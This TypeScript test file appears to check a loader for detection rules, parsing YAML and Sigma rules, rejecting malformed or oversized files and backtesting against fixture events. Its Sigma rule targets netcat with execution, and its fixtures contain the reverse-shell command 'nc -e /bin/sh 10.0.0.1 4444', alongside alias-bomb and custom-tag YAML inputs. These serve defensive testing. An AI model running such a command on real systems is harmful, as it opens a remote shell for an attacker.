import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { backtest } from '../engine/backtest.ts';
import { eventsOf } from './fixture-events.ts';
import { Fixture } from '../model/fixture.ts';
import { describeProblem, fingerprintOf, loadDetections } from './load.ts';
import { parseDetection } from './parse-detection.ts';
import { RULE_FILES, TOOLS } from '../test-support/arbitrary.ts';

const fixtures = {
  fires: [{ commandLine: 'sudo id' }, { commandLine: 'sudo ls' }],
  quiet: [{ commandLine: 'id' }, { commandLine: 'ls' }],
};
const sudo = { ...RULE_FILES.sudo, fixtures };
const text = stringify(sudo);

const problemOf = (written: string): string => {
  const parsed = parseDetection(written, 'x.yaml', TOOLS);
  return 'reason' in parsed ? describeProblem(parsed) : 'accepted';
};

describe('a detection file', () => {
  it('is a rule whose version does not depend on fixtures, key order or comments', () => {
    const version = (written: string) => {
      const parsed = parseDetection(written, 'x.yaml', TOOLS);
      if ('reason' in parsed) throw new Error(parsed.reason);
      return parsed.rule.version;
    };
    const reordered = stringify(Object.fromEntries(Object.entries(sudo).reverse()));
    const other = stringify({
      ...sudo,
      fixtures: { ...fixtures, quiet: [{ commandLine: 'w' }, { commandLine: 'v' }] },
    });
    expect(version(reordered)).toBe(version(text));
    expect(version(`# why\n${other}`)).toBe(version(text));
    expect(version(stringify({ ...sudo, severity: 'low' }))).not.toBe(version(text));
  });

  it.each([
    { name: 'invalid YAML', written: 'id: [1, 2\ntitle: x', says: /^x\.yaml:2: / },
    { name: 'a custom tag', written: text.replace('title: ', 'title: !!js/function '), says: /^x\.yaml:1: .*tag/ },
    { name: 'two documents', written: `${text}---\n${text}`, says: /^x\.yaml:\d+: .*document/ },
    { name: 'a duplicate key', written: `${text}\nseverity: low\n`, says: /unique/ },
    {
      name: 'aliases that expand to a huge document',
      written: `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [${'*a, '.repeat(30)}]\nc: [${'*b, '.repeat(30)}]\n`,
      says: /alias/i,
    },
    { name: 'a misspelt key', written: text.replace('severity: medium', 'sevrity: medium'), says: /severity|sevrity/ },
    {
      name: 'a bad value, with its line',
      written: text.replace('severity: medium', 'severity: terrible'),
      says: new RegExp(`^x\\.yaml:${lineOf('severity')}: severity`),
    },
    {
      name: 'a bad selection, with its line',
      written: text.replace('commandLine: "*sudo*"', 'commandLine|nosuch: "*sudo*"'),
      says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection`),
    },
    {
      name: 'a misspelt field',
      written: text.replace('commandLine: "*sudo*"', 'comandLine: "*sudo*"'),
      says: /comandLine/,
    },
    {
      name: 'expressions that expand to a huge rule, with their line',
      written: text.replace(
        'commandLine: "*sudo*"',
        `commandLine|re: [${Array.from({ length: 4000 }, (_, i) => `"(a|b|c|d){1,200}z${i}"`).join(', ')}]`,
      ),
      says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection\\.commandLine\\|re: .*parts in all$`),
    },
    { name: 'a list', written: '- 1\n- 2\n', says: /^x\.yaml:1: / },
    { name: 'nothing', written: '', says: /^x\.yaml:1: / },
    { name: 'endless nesting', written: '['.repeat(100_000), says: /^x\.yaml:\d+: / },
  ])('rejects $name', ({ written, says }) => {
    expect(problemOf(written)).toMatch(says);
  });

  it('reports a bad fixture with its line', () => {
    const broken = stringify({
      ...sudo,
      fixtures: { ...fixtures, quiet: [{ commandLine: 'w' }, { comandLine: 'v' }] },
    });
    const line = broken.split('\n').findIndex((written) => written.includes('comandLine')) + 1;
    expect(problemOf(broken)).toMatch(new RegExp(`^x\\.yaml:${line}: fixtures\\.quiet\\.1: .*comandLine`));
  });
});

function lineOf(beginning: string): number {
  return text.split('\n').findIndex((written) => written.trim().startsWith(beginning)) + 1;
}

const SIGMA = `
title: Netcat With Execution
id: 7f734ed0-4f47-46c0-837f-6ee62505abd9
status: test
description: Netcat that hands its connection to a program
author: someone
date: 2026-01-01
tags: [attack.execution, attack.t1059.004]
logsource: { category: process_creation, product: linux }
detection:
  selection:
    Image|endswith: ['/nc', '/ncat']
    CommandLine|contains: [' -e ', ' -c ']
  condition: selection
falsepositives: Unknown
level: high
`;

describe('a Sigma file, unchanged', () => {
  it('is a rule like any other', () => {
    const parsed = parseDetection(SIGMA, 'nc.yml', TOOLS);
    if ('reason' in parsed) throw new Error(parsed.reason);
    expect(parsed.detection).toMatchObject({
      id: '7f734ed0-4f47-46c0-837f-6ee62505abd9',
      severity: 'high',
      attack: ['T1059.004'],
      requires: ['commandLine'],
    });
    const alerts = (commandLine: string) =>
      backtest([eventsOf(Fixture.parse({ commandLine }), TOOLS.hash128)], { ...TOOLS, rules: [parsed.rule] });
    expect(alerts('nc -e /bin/sh 10.0.0.1 4444')).toMatchObject([{ title: 'Netcat With Execution' }]);
    expect(alerts('echo "nc -e /bin/sh"')).toEqual([]);
  });

  it.each(['deprecated', 'unsupported'])('is loaded and not evaluated when it is %s', (status) => {
    const parsed = parseDetection(SIGMA.replace('status: test', `status: ${status}`), 'nc.yml', TOOLS);
    if ('reason' in parsed) throw new Error(parsed.reason);
    const events = eventsOf(Fixture.parse({ commandLine: 'nc -e /bin/sh 10.0.0.1 4444' }), TOOLS.hash128);
    expect(backtest([events], { ...TOOLS, rules: [parsed.rule] })).toEqual([]);
  });

  it.each([
    {
      name: 'a file rule',
      category: 'file_event',
      selection: "{ TargetFilename|endswith: '.pem' }",
      requires: [['filePath', 'commandLine']],
    },
    {
      name: 'a network rule',
      category: 'network_connection',
      selection: '{ DestinationPort: 4444, networkProtocol: tcp }',
      requires: [['networkHost', 'commandLine'], 'networkProtocol'],
    },
    {
      name: 'a DNS rule',
      category: 'dns_query',
      selection: '{ QueryName: x.example }',
      requires: [['networkHost', 'commandLine']],
    },
    {
      name: 'alternatives',
      category: 'file_delete',
      selection: '[{ filePath: /x }, { toolName: rm }]',
      requires: [['filePath', 'commandLine']],
    },
    {
      name: 'a condition on absence',
      category: 'process_creation',
      selection: '{ CommandLine: x, cwd: null }',
      requires: ['commandLine'],
    },
  ])('requires the fields that its events must have: $name', ({ category, selection, requires }) => {
    const written = SIGMA.replace('process_creation', category).replace(
      /selection:\n.*\n.*\n.*selection$/m,
      `selection: ${selection}\n  filter: { mcpServer: notes }\n  condition: selection and not filter`,
    );
    const parsed = parseDetection(written, 'x.yml', TOOLS);
    if ('reason' in parsed) throw new Error(parsed.reason);
    expect(parsed.detection.requires).toEqual(requires);
  });

  it.each([
    {
      name: 'a log source that agents do not have',
      written: SIGMA.replace('process_creation', 'registry_set'),
      says: /^x\.yaml:9: logsource\.category/,
    },
    { name: 'a correlation', written: `${SIGMA}\ncorrelation: { type: event_count }\n`, says: /correlation/ },
    {
      name: 'a modifier that Sigma does not have',
      written: SIGMA.replace('Image|endswith', 'Image|endsin'),
      says: /^x\.yaml:12: /,
    },
    {
      name: 'a status that Sigma does not have',
      written: SIGMA.replace('status: test', 'status: unheard'),
      says: /^x\.yaml:4: status/,
    },
  ])('is rejected for $name', ({ written, says }) => {
    expect(problemOf(written)).toMatch(says);
  });
});

describe('a folder of detections', () => {
  let folder = '';
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'vigil-detections-'));
    await mkdir(join(folder, 'command'));
    await writeFile(join(folder, 'command', 'sudo.yaml'), text);
    await writeFile(join(folder, 'broken.yml'), text.replace('kind: match', 'kind: guess'));
    await writeFile(join(folder, 'sudo-again.yaml'), text);
    await writeFile(join(folder, 'README.md'), '# not a detection');
    await writeFile(join(folder, 'huge.yaml'), '#'.repeat(300_000));
  });
  afterAll(() => rm(folder, { recursive: true }));

  it('returns the valid rules, and reports what is wrong with the others', async () => {
    const { detections, problems } = await loadDetections([folder], TOOLS);
    expect(detections.map(({ file, detection }) => [file, detection.id])).toEqual([['command/sudo.yaml', 'sudo-used']]);
    expect(problems.map(describeProblem)).toEqual([
      expect.stringMatching(/^broken\.yml:\d+: kind/),
      'huge.yaml: the file has 300000 bytes; the limit is 262144',
      'sudo-again.yaml:1: id sudo-used is already used by command/sudo.yaml',
    ]);
  });

  it('stops when all its rules together grow too large', async () => {
    const large = await mkdtemp(join(tmpdir(), 'vigil-detections-'));
    const expressions = Array.from({ length: 40 }, (_, i) => `'(a|b|c|d){1,200}z${i}'`).join(', ');
    const sigma = SIGMA.replace('CommandLine|contains', 'CommandLine|re').replace("' -e ', ' -c '", expressions);
    for (let i = 0; i < 20; i += 1)
      await writeFile(join(large, `${String(i).padStart(2, '0')}.yaml`), sigma.replace(/^id:.*$/m, `id: rule-${i}`));
    const { detections, problems } = await loadDetections([large], TOOLS);
    expect(detections).toHaveLength(13);
    expect(problems.map(describeProblem)).toEqual([expect.stringMatching(/^13\.yaml: .*above 1000000 parts/)]);
    await rm(large, { recursive: true });
  });

  it('has a fingerprint that changes with its files', async () => {
    const before = await fingerprintOf([folder]);
    expect(await fingerprintOf([folder])).toBe(before);
    await writeFile(join(folder, 'new.yaml'), text);
    expect(await fingerprintOf([folder])).not.toBe(before);
  });
});
